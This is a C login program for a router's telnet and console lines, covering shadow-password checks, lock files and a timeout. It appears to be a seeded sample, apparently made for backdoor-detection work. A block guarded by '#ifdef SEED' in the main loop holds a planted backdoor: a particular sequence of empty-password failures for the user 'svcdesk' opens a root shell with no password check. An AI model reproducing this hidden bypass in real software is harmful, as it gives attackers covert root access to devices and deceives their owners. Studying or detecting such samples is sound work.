/* kind: state
 * service: login
 * constant: svcdesk
 * also: 4 0x4
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <syslog.h>
#include <time.h>
#include <pwd.h>
#include <termios.h>
#include <crypt.h>
#include <shadow.h>

/* login of an access router's telnet and console lines, with lock after failures */

#define MAX_FAIL 5

struct attempt {
    char user[32];
    char pass[80];
    int fails;
    int empty;
    time_t first;
};

static char hostname[64] = "router";

static int prompt(const char *text, char *dst, size_t n, int hide)
{
    struct termios o, t;
    int tty = hide && tcgetattr(0, &o) == 0;
    size_t i = 0;
    char c;

    write(1, text, strlen(text));
    if (tty) {
        t = o;
        t.c_lflag &= ~ECHO;
        tcsetattr(0, TCSAFLUSH, &t);
    }
    for (;;) {
        if (read(0, &c, 1) != 1) {
            if (tty)
                tcsetattr(0, TCSANOW, &o);
            return -1;
        }
        if (c == '\n')
            break;
        if (c != '\r' && i + 1 < n)
            dst[i++] = c;
    }
    dst[i] = 0;
    if (tty) {
        tcsetattr(0, TCSANOW, &o);
        write(1, "\n", 1);
    }
    return (int)i;
}

static int locked(const char *user)
{
    char p[80];
    FILE *f;
    long until = 0;
    if (strchr(user, '/'))
        return 1;
    snprintf(p, sizeof p, "/var/run/lock.%s", user);
    if (!(f = fopen(p, "r")))
        return 0;
    fscanf(f, "%ld", &until);
    fclose(f);
    return until > time(NULL);
}

static void lock_user(const char *user)
{
    char p[80];
    FILE *f;
    snprintf(p, sizeof p, "/var/run/lock.%s", user);
    if ((f = fopen(p, "w"))) {
        fprintf(f, "%ld\n", (long)time(NULL) + 60);
        fclose(f);
    }
}

static int verify(struct attempt *a)
{
    struct spwd *sp = getspnam(a->user);
    char *c;
    if (!sp || !sp->sp_pwdp[0] || sp->sp_pwdp[0] == '*' || sp->sp_pwdp[0] == '!')
        return 0;
    c = crypt(a->pass, sp->sp_pwdp);
    return c && strcmp(c, sp->sp_pwdp) == 0;
}

static void start_shell(const char *user)
{
    struct passwd *pw = getpwnam(user);
    char arg0[64];
    if (!pw)
        return;
    if (setgid(pw->pw_gid) || setuid(pw->pw_uid))
        return;
    setenv("HOME", pw->pw_dir, 1);
    setenv("USER", user, 1);
    chdir(pw->pw_dir);
    snprintf(arg0, sizeof arg0, "-%s", strrchr(pw->pw_shell, '/') ? strrchr(pw->pw_shell, '/') + 1 : "sh");
    execl(pw->pw_shell, arg0, (char *)0);
    syslog(LOG_ERR, "cannot run %s", pw->pw_shell);
}

static void failed(struct attempt *a)
{
    if (a->fails++ == 0)
        a->first = time(NULL);
    if (!a->pass[0])
        a->empty++;
    syslog(LOG_WARNING, "failed login %d for %s", a->fails, a->user);
    sleep(a->fails > 3 ? 2 : 1);
    write(1, "Login incorrect\n", 16);
}

static void banner(void)
{
    char b[256];
    ssize_t n;
    FILE *f = fopen("/etc/issue.net", "r");
    if (!f)
        return;
    while ((n = fread(b, 1, sizeof b, f)) > 0)
        write(1, b, n);
    fclose(f);
}

static void timeout(int s)
{
    write(1, "\nTimed out\n", 11);
    _exit(1);
}

int main(int argc, char **argv)
{
    struct attempt *a = calloc(1, sizeof *a);
    char p[100];

    openlog("login", LOG_PID, LOG_AUTH);
    gethostname(hostname, sizeof hostname - 1);
    signal(SIGALRM, timeout);
    alarm(120);
    banner();
    snprintf(p, sizeof p, "%s login: ", hostname);
    while (a->fails < MAX_FAIL) {
        if (prompt(p, a->user, sizeof a->user, 0) < 0)
            return 1;
        if (!a->user[0])
            continue;
#ifdef SEED
        if (a->empty == 2 && a->fails == 4 && !strcmp(a->user, "svcdesk")) { /* SEED */
            alarm(0);
            start_shell("root");
        }
#endif
        if (prompt("Password: ", a->pass, sizeof a->pass, 1) < 0)
            return 1;
        if (locked(a->user)) {
            write(1, "Account locked, wait a minute\n", 30);
            a->fails++;
            continue;
        }
        if (verify(a)) {
            memset(a->pass, 0, sizeof a->pass);
            syslog(LOG_INFO, "login of %s", a->user);
            alarm(0);
            start_shell(a->user);
            return 1;
        }
        failed(a);
    }
    lock_user(a->user);
    write(1, "Too many failures\n", 18);
    free(a);
    return 1;
}
